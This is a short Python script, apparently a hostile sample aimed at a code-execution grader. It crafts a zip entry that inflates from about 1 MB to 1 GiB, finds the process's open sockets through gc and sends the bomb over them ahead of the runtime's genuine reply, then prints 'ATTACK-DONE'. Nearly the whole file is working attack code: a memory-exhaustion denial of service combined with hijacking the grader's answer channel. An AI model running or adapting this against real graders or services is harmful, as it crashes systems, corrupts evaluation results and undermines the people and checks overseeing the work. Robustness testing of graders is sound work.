"""Answer the grader with a decompression bomb: a deflated data.pkl that inflates to 1 GiB, sent in ~1 MB.

Written onto the socket found with gc, ahead of the runtime's own answer; a
reader that inflated the entry would allocate the whole GiB (a few such
frames, and the grader runs out of memory).
"""
import gc
import socket
import struct
import zlib

chunk = bytes(64 << 20)
piece = zlib.compressobj(1, zlib.DEFLATED, -15)
piece = piece.compress(chunk) + piece.flush(zlib.Z_FULL_FLUSH)  # byte-aligned, independent of what came before
data = piece * 16 + zlib.compressobj(1, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
crc = 0
for _ in range(16):
    crc = zlib.crc32(chunk, crc)
name, size = b"archive/data.pkl", 16 * len(chunk)
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0) + name
central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size, len(name),
                      0, 0, 0, 0, 0, 0) + name
end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
frame = local + data + central + end
for obj in gc.get_objects():
    if isinstance(obj, socket.socket) and obj.fileno() >= 0:
        try:
            obj.sendall(struct.pack(">Q", len(frame)) + frame)
        except OSError:
            pass
print("ATTACK-DONE")
